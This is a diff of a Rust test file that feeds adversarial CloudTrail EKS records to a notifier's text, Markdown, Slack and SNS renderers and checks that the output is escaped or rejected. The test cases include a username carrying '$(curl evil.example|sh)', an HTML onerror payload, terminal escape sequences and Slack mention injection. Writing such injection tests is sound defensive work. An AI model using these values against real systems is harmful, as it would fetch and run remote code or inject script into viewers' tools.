@@ -31,33 +31,121 @@ fn with(fixture: &str, pointer: &'static str, value: Value) -> Vec<u8> {
 fn rows() -> Vec<(&'static str, Vec<u8>, Expect)> {
     let long = "A".repeat(200_000);
     vec![
-        ("<!channel> in a username", with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<!channel> please run")), Expect::Escaped("<!channel>")),
-        ("<!here> in a group name", with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["<!here>", "ops"])), Expect::Escaped("<!here>")),
-        ("<@U123> in a principal ARN", with("invalid-principal.json", "/requestParameters/principalArn", json!("arn:aws:iam::111122223333:role/<@U123>")), Expect::Escaped("<@U123>")),
-        ("a Slack link in the cluster name", with("access-entry-already-exists.json", "/requestParameters/name", json!("<https://evil.example|click here>")), Expect::Escaped("<https://evil.example")),
-        ("a Markdown link in the error message", with("unclassified.json", "/errorMessage", json!("[click](https://evil.example) ![x](https://evil.example/p.png)")), Expect::Escaped("")),
-        ("HTML in a username", with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<img src=x onerror=alert(1)>")), Expect::Escaped("<img")),
-        ("backticks closing a code block", with("reserved-username-prefix.json", "/requestParameters/username", json!("system:```\n*fake* `x`")), Expect::Escaped("```\n*fake*")),
-        ("newlines forging fields", with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!(["system:masters\n*Cluster*\nprod-eu"])), Expect::Escaped("\n*Cluster*\nprod-eu")),
-        ("zero-width characters", with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["ad\u{200B}mins", "admins"])), Expect::Escaped("\u{200B}")),
-        ("right-to-left override", with("reserved-username-prefix.json", "/requestParameters/username", json!("system:\u{202E}nimda")), Expect::Escaped("\u{202E}")),
-        ("terminal escape sequences", with("unclassified.json", "/errorMessage", json!("\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}")), Expect::Escaped("\u{1b}")),
-        ("shell substitution in a username", with("reserved-username-prefix.json", "/requestParameters/username", json!("system:$(curl evil.example|sh)")), Expect::Escaped("--username $(curl")),
-        ("a 200 000-character cluster name", with("access-entries-disabled.json", "/requestParameters/name", json!(long.clone())), Expect::Escaped("")),
+        (
+            "<!channel> in a username",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<!channel> please run")),
+            Expect::Escaped("<!channel>"),
+        ),
+        (
+            "<!here> in a group name",
+            with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["<!here>", "ops"])),
+            Expect::Escaped("<!here>"),
+        ),
+        (
+            "<@U123> in a principal ARN",
+            with("invalid-principal.json", "/requestParameters/principalArn", json!("arn:aws:iam::111122223333:role/<@U123>")),
+            Expect::Escaped("<@U123>"),
+        ),
+        (
+            "a Slack link in the cluster name",
+            with("access-entry-already-exists.json", "/requestParameters/name", json!("<https://evil.example|click here>")),
+            Expect::Escaped("<https://evil.example"),
+        ),
+        (
+            "a Markdown link in the error message",
+            with("unclassified.json", "/errorMessage", json!("[click](https://evil.example) ![x](https://evil.example/p.png)")),
+            Expect::Escaped(""),
+        ),
+        (
+            "HTML in a username",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<img src=x onerror=alert(1)>")),
+            Expect::Escaped("<img"),
+        ),
+        (
+            "backticks closing a code block",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:```\n*fake* `x`")),
+            Expect::Escaped("```\n*fake*"),
+        ),
+        (
+            "newlines forging fields",
+            with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!(["system:masters\n*Cluster*\nprod-eu"])),
+            Expect::Escaped("\n*Cluster*\nprod-eu"),
+        ),
+        (
+            "zero-width characters",
+            with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["ad\u{200B}mins", "admins"])),
+            Expect::Escaped("\u{200B}"),
+        ),
+        (
+            "right-to-left override",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:\u{202E}nimda")),
+            Expect::Escaped("\u{202E}"),
+        ),
+        (
+            "terminal escape sequences",
+            with("unclassified.json", "/errorMessage", json!("\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}")),
+            Expect::Escaped("\u{1b}"),
+        ),
+        (
+            "shell substitution in a username",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:$(curl evil.example|sh)")),
+            Expect::Escaped("--username $(curl"),
+        ),
+        (
+            "a 200 000-character cluster name",
+            with("access-entries-disabled.json", "/requestParameters/name", json!(long.clone())),
+            Expect::Escaped(""),
+        ),
         ("a 200 000-character error message", with("unclassified.json", "/errorMessage", json!(long)), Expect::Escaped("")),
-        ("a 10 MB username", with("reserved-username-prefix.json", "/requestParameters/username", json!(format!("system:{}", "x".repeat(10 << 20)))), Expect::Escaped("")),
-        ("JSON nested 10 000 deep", format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes(), Expect::Error("nested JSON arrays")),
-        ("invalid UTF-8 in a log file", b"{\"Records\":[{\"eventSource\":\"eks.amazonaws.com\",\"eventName\":\"\xc3\x28\"}]}".to_vec(), Expect::Error("not UTF-8")),
-        ("a number where a string belongs", with("reserved-group-prefix.json", "/requestParameters/username", json!(12345)), Expect::Error("requestParameters.username: invalid type: integer")),
-        ("an object where a list belongs", with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!({"a": 1})), Expect::Error("requestParameters.kubernetesGroups: invalid type: map")),
-        ("duplicated keys", br#"{"eventSource":"eks.amazonaws.com","eventName":"CreateAccessEntry","eventName":"DeleteAccessEntry","eventID":"x"}"#.to_vec(), Expect::Error("duplicate field `eventName`")),
-        ("an eventSource that lies about the envelope", with("reserved-group-prefix.json", "/eventSource", json!("s3.amazonaws.com")), Expect::Skipped("disagrees with the record's eventSource")),
-        ("an EKS-looking record from another service", edited_fixture("reserved-group-prefix.json", |r| r["eventSource"] = json!("eks.amazonaws.com.evil.example")), Expect::Skipped("not an EKS event")),
+        (
+            "a 10 MB username",
+            with("reserved-username-prefix.json", "/requestParameters/username", json!(format!("system:{}", "x".repeat(10 << 20)))),
+            Expect::Escaped(""),
+        ),
+        (
+            "JSON nested 10 000 deep",
+            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes(),
+            Expect::Error("nested JSON arrays"),
+        ),
+        (
+            "invalid UTF-8 in a log file",
+            b"{\"Records\":[{\"eventSource\":\"eks.amazonaws.com\",\"eventName\":\"\xc3\x28\"}]}".to_vec(),
+            Expect::Error("not UTF-8"),
+        ),
+        (
+            "a number where a string belongs",
+            with("reserved-group-prefix.json", "/requestParameters/username", json!(12345)),
+            Expect::Error("requestParameters.username: invalid type: integer"),
+        ),
+        (
+            "an object where a list belongs",
+            with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!({"a": 1})),
+            Expect::Error("requestParameters.kubernetesGroups: invalid type: map"),
+        ),
+        (
+            "duplicated keys",
+            br#"{"eventSource":"eks.amazonaws.com","eventName":"CreateAccessEntry","eventName":"DeleteAccessEntry","eventID":"x"}"#
+                .to_vec(),
+            Expect::Error("duplicate field `eventName`"),
+        ),
+        (
+            "an eventSource that lies about the envelope",
+            with("reserved-group-prefix.json", "/eventSource", json!("s3.amazonaws.com")),
+            Expect::Skipped("disagrees with the record's eventSource"),
+        ),
+        (
+            "an EKS-looking record from another service",
+            edited_fixture("reserved-group-prefix.json", |r| r["eventSource"] = json!("eks.amazonaws.com.evil.example")),
+            Expect::Skipped("not an EKS event"),
+        ),
     ]
 }
 
 fn assert_safe(name: &str, d: &Diagnosis, forbidden: &str) {
-    let invisible = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}');
+    let invisible = |c: char| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
+    };
     let plain = text::render(d, false);
     assert!(!plain.chars().any(invisible), "{name}: text has a control or invisible character");
     let md = markdown::render(d);
@@ -88,11 +176,19 @@ fn assert_safe(name: &str, d: &Diagnosis, forbidden: &str) {
         }
         let all_text = payload.to_string();
         for (i, _) in all_text.match_indices('<') {
-            assert!(all_text[i..].starts_with("<https://docs.aws.amazon.com/") || all_text[i..].starts_with("<https://repost.aws/"), "{name}: raw '<' in Slack payload: {}", &all_text[i..(i + 40).min(all_text.len())]);
+            assert!(
+                all_text[i..].starts_with("<https://docs.aws.amazon.com/") || all_text[i..].starts_with("<https://repost.aws/"),
+                "{name}: raw '<' in Slack payload: {}",
+                &all_text[i..(i + 40).min(all_text.len())]
+            );
         }
         assert!(!all_text.chars().any(|c| invisible(c) && c != '\n'), "{name}: slack has an invisible character");
         let message = sns::message(d, f);
-        assert!(message.subject.len() < 100 && message.subject.chars().all(|c| c.is_ascii_graphic() || c == ' '), "{name}: subject {:?}", message.subject);
+        assert!(
+            message.subject.len() < 100 && message.subject.chars().all(|c| c.is_ascii_graphic() || c == ' '),
+            "{name}: subject {:?}",
+            message.subject
+        );
         assert!(message.message.len() <= sns::MESSAGE_LIMIT, "{name}: SNS message too long");
         assert!(!message.message.chars().any(invisible), "{name}: SNS message has a control character");
         for value in message.attributes.values() {
